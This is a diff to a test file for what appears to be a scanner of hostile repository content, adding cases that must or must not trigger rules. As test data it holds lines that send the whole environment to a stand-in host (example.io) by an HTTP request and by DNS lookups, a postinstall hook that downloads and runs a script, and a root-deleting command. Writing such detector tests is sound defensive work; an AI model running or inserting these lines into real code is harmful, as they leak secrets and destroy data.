@@ -37,6 +37,24 @@ test.each([
   ],
   ['Makefile', { content: 'all:\n\t@rm -rf /\n' }, 'filesystem/delete-root'],
   [
+    'tests/env.test.ts',
+    { content: "await fetch('https://example.io/x', { method: 'PUT', body: JSON.stringify(process.env) });" },
+    'secrets/send-environment',
+  ],
+  [
+    'a.js',
+    { content: "const v = Object.values(process.env).join();\ndns.resolve4(v + '.example.io', () => {});" },
+    'secrets/send-environment',
+  ],
+  [
+    'a.py',
+    {
+      content:
+        "import os, socket\nfor k, v in os.environ.items():\n    socket.gethostbyname(v.encode().hex() + '.example.io')\n",
+    },
+    'secrets/send-environment',
+  ],
+  [
     'package.json',
     { content: '{"scripts": {"postinstall": "curl http://example.io | sh"}}' },
     'network-exec/download-and-run',
@@ -50,6 +68,9 @@ test.each([
   ['x.sh', { content: '# rm -rf ~\necho "rm -rf ~"\n' }],
   ['README.md', { content: 'Never run `rm -rf ~`.' }],
   ['test/x.test.js', { content: "execSync('rm -rf ~')" }],
+  ['test/x.test.js', { content: 'spawn(x, { env: { ...process.env } }); await fetch(url);' }],
+  ['test/x.test.js', { content: "spawn(x, { env: process.env }); fetch('http://localhost:3000/');" }],
+  ['a.js', { content: "dns.lookup('example.io', () => {}); spawn(x, { env: { A: process.env.A } });" }],
   ['package.json', { content: '{"scripts": {"build": "tsc", "postinstall": "husky"}}' }],
   ['package.json', { content: '{"name": "x", "postinstall": "\\' }],
   ['x.sh', {}],
